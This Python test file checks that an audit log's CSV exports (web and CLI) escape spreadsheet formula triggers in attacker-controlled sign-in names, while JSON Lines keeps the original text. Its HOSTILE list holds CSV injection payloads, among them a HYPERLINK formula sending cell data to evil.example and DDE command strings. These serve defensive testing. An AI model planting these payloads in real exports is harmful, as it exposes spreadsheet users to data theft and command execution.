"""Issue 12, finding 1: exports never hand a spreadsheet a formula. Anyone, without an account,
controls the actor column (a failed sign-in is recorded with the name as typed), so the CSV
exports (history page and `roledesk audit export`) must neutralise cells a spreadsheet would
evaluate, while JSON Lines keeps the original text."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from app.audit.log import AuditLog, NewEntry
from app.cli import main
from app.exports import safe_cell, to_lines
from tests.audit.helpers import ledger
from tests.conftest import csrf_token_for

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_each_formula_trigger_is_neutralised_and_other_values_kept():
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value
    assert safe_cell("alice") == "alice"
    assert safe_cell("a=b") == "a=b"  # only a leading trigger is evaluated
    assert safe_cell(-5) == -5 and safe_cell(None) is None  # numbers stay numbers
    assert safe_cell({"k": "=1"}) == '{"k": "=1"}'


def test_csv_cells_read_back_as_text_and_jsonl_keeps_the_original():
    rows = [{"actor": v, "n": i} for i, v in enumerate(HOSTILE)]
    text = "".join(to_lines(rows, ("actor", "n"), "csv"))
    read = list(csv.DictReader(io.StringIO(text)))
    assert [r["actor"] for r in read] == ["'" + v for v in HOSTILE]
    lines = "".join(to_lines(rows, ("actor", "n"), "jsonl")).splitlines()
    assert [json.loads(line)["actor"] for line in lines] == HOSTILE


def test_web_export_neutralises_a_sign_in_name(web_app, client_as):
    from fastapi.testclient import TestClient

    admin = client_as("admin", "admin")
    # Three failures: a fourth from the same address would be throttled (and not recorded).
    with TestClient(web_app) as stranger:
        for name in HOSTILE[:3]:
            stranger.post(
                "/sign-in",
                data={"name": name, "password": "x" * 12, "csrf_token": csrf_token_for(stranger)},
            )
    response = admin.get("/audit/export?format=csv&action=roledesk:SignIn")
    assert response.status_code == 200
    actors = {row["actor"] for row in csv.DictReader(io.StringIO(response.text))}
    assert {"'" + v for v in HOSTILE[:3]} <= actors
    assert not [a for a in actors if a.startswith(("=", "+", "-", "@", "\t", "\r"))]
    jsonl = admin.get("/audit/export?format=jsonl&action=roledesk:SignIn").text
    assert set(HOSTILE[:3]) <= {json.loads(line)["actor"] for line in jsonl.splitlines()}


@pytest.mark.parametrize("kind", ["sqlite", "postgresql"])
def test_cli_export_neutralises_cells(request, kind):
    url = request.getfixturevalue("sqlite_url" if kind == "sqlite" else "postgres_url")
    db = ledger(url)
    try:
        log = AuditLog(db)
        for value in HOSTILE:
            log.append(
                NewEntry(kind="record", action="roledesk:SignIn", actor=value, outcome="failed")
            )
        env = {"ROLEDESK_DATABASE_URL": url}
        out = CliRunner().invoke(main, ["audit", "export", "--format", "csv"], env=env)
        assert out.exit_code == 0, out.output
        rows = list(csv.DictReader(io.StringIO(out.output)))
        assert [r["actor"] for r in rows] == ["'" + v for v in HOSTILE]
        out = CliRunner().invoke(main, ["audit", "export", "--format", "jsonl"], env=env)
        assert [json.loads(line)["actor"] for line in out.output.splitlines()] == HOSTILE
    finally:
        db.dispose()
